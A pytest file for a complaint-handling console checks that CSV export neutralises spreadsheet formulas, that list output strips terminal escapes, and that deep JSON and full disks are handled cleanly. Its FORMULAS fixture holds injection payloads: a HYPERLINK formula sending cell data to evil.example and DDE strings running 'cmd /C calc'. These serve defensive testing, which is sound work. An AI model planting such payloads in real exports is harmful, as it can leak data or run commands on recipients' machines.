"""What customers and other programs send: formulas for spreadsheets, JSON nested past any reason; and what
the machine does: a disk that fills at the worst moment, writers beside `check`."""

from __future__ import annotations

import csv
import io
import json
import threading
from pathlib import Path
from typing import Any

import pytest

from console.playbooks import Playbooks
from console.store import Store
from console.store.integrity import check
from tests.conftest import make_app, make_complaint, notifications, run_cli

HEADER = "id,received,customer_name,customer_email,channel,language,subject,body,customer_phone\n"
FORMULAS = {
    "subject": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "body": "+cmd|' /C calc'!A0",
    "customer_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "customer_phone": "-2+3",
}


run = run_cli


@pytest.fixture
def desk(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    directory = tmp_path / "desk"
    monkeypatch.setenv("AGENT_CONSOLE_DATA", str(directory))
    for variable in ("LANGUAGE", "LC_ALL", "LC_MESSAGES", "LANG"):
        monkeypatch.delenv(variable, raising=False)
    return directory


def formula_file(tmp_path: Path) -> Path:
    rows = [
        {"id": "F-1", "received": "2026-11-20T08:00:00Z", "customer_email": "f@example.com", "channel": "email",
         "language": "en", **FORMULAS},
        {"id": "F-2", "received": "2026-11-20T09:00:00Z", "customer_email": "g@example.com", "channel": "web",
         "language": "fi", "subject": "'=already quoted", "body": "\tindented\r\nsecond line",
         "customer_name": "'Plain' Name", "customer_phone": "+358 40 123"},
    ]  # fmt: skip
    path = tmp_path / "formulas.json"
    path.write_text(json.dumps(rows), encoding="utf-8")
    return path


def test_csv_export_neutralises_formulas_and_imports_back_exactly(
    desk: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run(capsys, "import", str(formula_file(tmp_path)))[0] == 0
    exported = tmp_path / "export.csv"
    assert run(capsys, "export", "--format", "csv", "-o", str(exported))[0] == 0
    rows = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8"), newline="")))
    for row in rows:
        for name, value in row.items():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, value)
    by_id = {row["id"]: row for row in rows}
    assert {name: by_id["F-1"][name] for name in FORMULAS} == {name: "'" + value for name, value in FORMULAS.items()}
    assert by_id["F-2"]["subject"] == "''=already quoted" and by_id["F-2"]["customer_name"] == "'Plain' Name"
    assert by_id["F-2"]["body"].startswith("'\tindented") and by_id["F-2"]["customer_phone"] == "'+358 40 123"
    again = tmp_path / "again"
    assert run(capsys, "import", str(exported), "--data-dir", str(again))[0] == 0
    for complaint_id in ("F-1", "F-2"):
        before, after = Store(desk).complaint(complaint_id), Store(again).complaint(complaint_id)
        for name in ("subject", "body", "customer_name", "customer_phone"):
            assert getattr(after, name) == getattr(before, name), name
    assert Store(again).complaint("F-1").subject == FORMULAS["subject"]


def test_list_output_is_inert_on_a_pipe_too(desk: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    Store(desk).add_complaints(
        [make_complaint(1, subject="a\x1b]0;PWNED\x07b", body="x\x1b[2Jy\x9b31m", customer_name="N\x1b[31m")]
    )
    for format in ("table", "csv"):
        status, out, _err = run(capsys, "list", "--format", format)  # capsys: not a terminal
        assert status == 0 and "\x1b" not in out and "\x9b" not in out and "\x07" not in out


DEEP = "[" * 100_000 + "]" * 100_000


def test_deep_nesting_in_an_import_is_one_line_naming_file_and_record(
    desk: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    good = json.dumps({"id": "A", "received": "2026-11-20T08:00:00Z", "customer_name": "A", "channel": "email",
                       "customer_email": "a@example.com", "language": "en", "subject": "s", "body": "b"})  # fmt: skip
    array = tmp_path / "array.json"
    array.write_text(f"[{good},\n{good.replace('A', 'B')},\n{DEEP}]", encoding="utf-8")
    lines = tmp_path / "lines.jsonl"
    lines.write_text(f"{good}\n{DEEP}\n", encoding="utf-8")
    for path, where in ((array, "record 3"), (lines, "line 2")):
        status, _out, err = run(capsys, "import", str(path))
        assert status == 2 and err == f"agent-console: {path}: {where}: nested too deeply (nothing was imported)\n"
    assert not Store(desk).complaints()


def deepen_a_shard(store: Store) -> Path:
    shard = store.layout.shard(0)
    shard.write_text(shard.read_text(encoding="utf-8")[:-1] + ',"x":{"1":{"v":' + DEEP + "}}}", encoding="utf-8")
    return shard


async def test_deep_nesting_in_a_shard_is_one_line_everywhere(
    desk: Path, playbooks: Playbooks, capsys: pytest.CaptureFixture[str]
) -> None:
    store = Store(desk)
    store.add_complaints([make_complaint(1)])
    shard = deepen_a_shard(store)
    for command in (("list",), ("show", "T-1"), ("export", "--format", "json"), ("check",)):
        status, out, err = run(capsys, *command)
        said = err or out
        assert status == 1 and f"{shard} is damaged (not valid JSON: nested too deeply)" in said, command
        assert "Traceback" not in said
    status, _out, err = run(capsys, "import", str(formula_file(desk.parent)))
    assert status == 1 and "nested too deeply" in err and err.count("\n") == 1
    app = make_app(Store(desk), playbooks)
    async with app.run_test(size=(80, 24)) as pilot:
        for _ in range(100):
            if any(str(shard) in message for message in notifications(app)):
                break
            await pilot.pause(0.05)
        said = [message for message in notifications(app) if str(shard) in message]
        assert said == [f"{shard} is damaged (not valid JSON: nested too deeply); it was left untouched"]
        assert app.is_running


def test_a_full_disk_after_the_commit_does_not_turn_it_into_a_failure(
    desk: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    Store(desk).add_complaints([make_complaint(1)])
    import console.store.tinystore as tinystore

    real = tinystore.open_regular

    def changes_on_a_full_disk(path: Path, flags: int, mode: int = 0o600) -> int:
        if path.name == ".changes":
            raise OSError(28, "No space left on device", str(path))
        return real(path, flags, mode)

    with monkeypatch.context() as patch:
        patch.setattr(tinystore, "open_regular", changes_on_a_full_disk)
        status, out, err = run(capsys, "note", "T-1", "stored")
        assert status == 0 and "Note added" in out and not err
        assert run(capsys, "seed", "--count", "3")[0] == 0
    assert [note.text for note in Store(desk).notes("T-1")] == ["stored"]
    assert Store(desk).complaint("S-000003")


def test_orphans_of_an_import_that_failed_are_reported_and_cleared_by_the_next(
    desk: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    Store(desk).add_complaints([make_complaint(number) for number in (1, 2)])
    from console.store import files

    real_flush = files.AtomicJSONStorage.flush

    def shards_on_a_full_disk(self: files.AtomicJSONStorage, payload: bytes | None = None, *folders: Any) -> bool:
        if self.path.parent.name == "shards":
            raise files.unavailable(self.path, OSError(28, "No space left on device"))
        return real_flush(self, payload, *folders)

    with monkeypatch.context() as patch:
        patch.setattr(files.AtomicJSONStorage, "flush", shards_on_a_full_disk)
        status, _out, err = run(capsys, "import", str(formula_file(tmp_path)))
        assert status == 1 and "No space left on device" in err
    messages = Store(desk).layout.messages(0)
    assert "F-1" in messages.read_text(encoding="utf-8")  # written before the shard failed
    status, out, _err = run(capsys, "check")
    [said] = [line for line in out.splitlines() if line.startswith(f"note: {messages}: messages of no complaint")]
    assert "'F-1'" in said and "'F-2'" in said and status == 0
    status, out, _err = run(capsys, "import", str(formula_file(tmp_path)))
    assert status == 0 and "Imported 2 new complaints." in out
    status, out, _err = run(capsys, "check")
    assert status == 0 and "messages of no complaint" not in out and "No problems found." in out
    assert Store(desk).complaint("F-1").body == FORMULAS["body"]


def test_check_beside_writers_reports_no_problem_they_did_not_leave(
    small_store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Read without the lock, a shard written before its routes looked like "no route to …"."""
    monkeypatch.setattr("console.store.tinystore.IMPORT_BATCH", 7)
    writing = True

    def write() -> None:
        writer = Store(small_store.directory)
        for start in range(0, 100, 20):
            writer.add_complaints([make_complaint(number) for number in range(100 + start, 120 + start)])
            writer.add_note("T-1", "anna", f"note {start}")
            writer.set_many("status", {f"T-{n}": "waiting" for n in range(100 + start, 110 + start)}, "anna")

    def keep_writing() -> None:
        nonlocal writing
        try:
            write()
        finally:
            writing = False

    writer = threading.Thread(target=keep_writing)
    writer.start()
    reports = []
    while writing:
        reports.append(check(Store(small_store.directory)))
    writer.join()
    assert len(reports) > 3
    assert [problem for report in reports for problem in report.problems] == []
    assert check(small_store).complaints == 103


def test_an_id_in_two_import_files_is_one_line_and_nothing_is_stored(
    desk: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    one = tmp_path / "one.csv"
    one.write_text(HEADER + "D-1,2026-11-20T08:00:00Z,A,a@example.com,email,en,s,b,\n", encoding="utf-8")
    two = tmp_path / "two.csv"
    two.write_text(HEADER + "D-1,2026-11-21T08:00:00Z,B,b@example.com,web,fi,t,c,\n", encoding="utf-8")
    status, _out, err = run(capsys, "import", str(one), str(two))
    assert status == 2 and err == f"agent-console: {two}: id 'D-1' is also in {one} (nothing was imported)\n"
    assert not Store(desk).complaints()


def test_an_agent_name_of_only_spaces_is_refused(desk: Path, capsys: pytest.CaptureFixture[str]) -> None:
    Store(desk).add_complaints([make_complaint(1)])
    status, _out, err = run(capsys, "note", "T-1", "hello", "--agent", "   ")
    assert status == 2 and "agent name" in err and err.count("\n") == 1
    assert Store(desk).notes("T-1") == []
